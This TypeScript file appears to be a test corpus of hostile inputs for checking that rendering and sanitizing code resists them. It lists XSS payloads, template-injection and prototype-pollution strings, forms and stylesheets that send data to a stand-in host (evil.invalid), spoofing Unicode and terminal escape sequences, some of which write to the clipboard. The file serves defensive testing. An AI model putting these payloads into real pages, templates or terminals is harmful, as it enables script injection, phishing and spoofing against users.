// What a hostile agent may write: markup that wants to run, templates, prototype keys, and characters that deceive or control.

const RUN = 'window.pwned=1;alert(1)';

const HANDLERS = [
  'onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'onanimationstart', 'ontoggle', 'onbegin', 'onpointerenter', 'onwheel',
]; // prettier-ignore
const ELEMENTS = [
  'img src=x', 'svg', 'body', 'details open', 'input autofocus', 'video src=x', 'iframe src=x', 'marquee', 'object data=x', 'math',
]; // prettier-ignore
const URLS = [
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `java\tscript:${RUN}`, `\u0001javascript:${RUN}`, `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`, `blob:${RUN}`, '//evil.invalid/x', 'http://evil.invalid/x.png', 'https://evil.invalid/track?id=1',
]; // prettier-ignore
const LINKS = [
  (url: string) => `<a href="${url}">look</a>`,
  (url: string) => `[look](${url})`,
  (url: string) => `![look](${url})`,
  (url: string) => `<img src="${url}">`,
  (url: string) => `<iframe src="${url}"></iframe>`,
];
const MARKUP = [
  `<script>${RUN}</script>`, `<ScRiPt>${RUN}</sCrIpT>`, `</pre><script>${RUN}</script>`, `"><script>${RUN}</script>`, `'-${RUN}-'`,
  `<svg><script>${RUN}</script></svg>`, `<svg/onload=${RUN}>`, `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`, `<template><script>${RUN}</script></template>`, `<!--><img src=x onerror=${RUN}>-->`,
  `<base href="http://evil.invalid/">`, `<meta http-equiv=refresh content="0;url=http://evil.invalid/">`, `<link rel=stylesheet href=//evil.invalid/x.css>`,
  `<style>*{display:none}</style>`, `<style>@import "//evil.invalid/x.css"</style>`, `<form action=//evil.invalid><button>Log in</button></form>`,
  `<b>bold</b><i>not</i>`, `<plaintext>`, `<textarea>`, `<title>`, `<xmp>`, `<dialog open>Your session has ended</dialog>`, `<am-root></am-root>`,
  `<img src="data:image/svg+xml,<svg onload=${RUN}>">`, `&lt;script&gt;${RUN}&lt;/script&gt;`, `&#60;script&#62;`, `\\u003cscript\\u003e`, `%3Cscript%3E`,
]; // prettier-ignore
const TEMPLATES = [
  `{{ ${RUN} }}`, `{{constructor.constructor('${RUN}')()}}`, `{{$on.constructor('${RUN}')()}}`, `\${${RUN}}`, `<%= ${RUN} %>`, `#{${RUN}}`,
  `[[${RUN}]]`, `{{{raw}}}`, `@if (true) { <b>x</b> }`, `@for (a of b; track a) {}`, `*ngIf="${RUN}"`, `[innerHTML]="x"`, `{% raw %}`, `$\{{ inputs.a }}`,
  `__proto__`, `constructor`, `prototype`, `toString`, `hasOwnProperty`, `{"__proto__":{"pwned":1}}`, `{"constructor":{"prototype":{"pwned":1}}}`,
]; // prettier-ignore
const DECEIVING = [
  'user\u202Enimda\u202C', '\u202Dabc\u202C', '\u2067right\u2069', '\u2066left\u2069', '\u061Cmark', 'zero\u200Bwidth\u200Bspace', '\uFEFFbom',
  'tag\u{E0041}\u{E0042}', 'раураl.com', 'ａｄｍｉｎ', '𝐛𝐨𝐥𝐝', 'a\u0300\u0301\u0302\u0303'.repeat(40), '﷽'.repeat(60), 'line\u2028separator\u2029here', '\u00AD\u2060soft',
  'שלום עולם', 'مرحبا بالعالم', '👩‍👩‍👧‍👦🏴‍☠️', '中文'.repeat(100), 'W'.repeat(3_000), `${'-'.repeat(2_000)}>`, 'a\n'.repeat(300), '\t'.repeat(500), ' '.repeat(500),
]; // prettier-ignore
const CONTROLLING = [
  '\u001B[31mred\u001B[0m', '\u001B[2J\u001B[H', '\u001B]0;title\u0007', '\u001B]52;c;cHduZWQ=\u0007', '\u001B]8;;http://evil.invalid\u001B\\link\u001B]8;;\u001B\\',
  '\u001BP+q544e\u001B\\', '\u001B[?1049h', '\u001B[6n', '\u001Bc', '\u009B31mred', '\u009D0;title\u009C', '\u0000nul\u0000', 'a\bb\bc', 'first\rsecond', '\u0007\u0007',
  '\u007F\u007F', '\u000E\u000F', '\u001B[10000000000C', '\u001B_G\u001B\\', '\u001B^x\u001B\\', 'over\u001B[1A\u001B[2Kwritten', '\uD800lone', 'lone\uDFFF', '\uDC00\uD800',
]; // prettier-ignore

/** More than two hundred of them. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...ELEMENTS.flatMap((element) => HANDLERS.map((on) => `<${element} ${on}="${RUN}">`)),
  ...URLS.flatMap((url) => LINKS.map((link) => link(url))),
  ...MARKUP,
  ...TEMPLATES,
  ...DECEIVING,
  ...CONTROLLING,
];
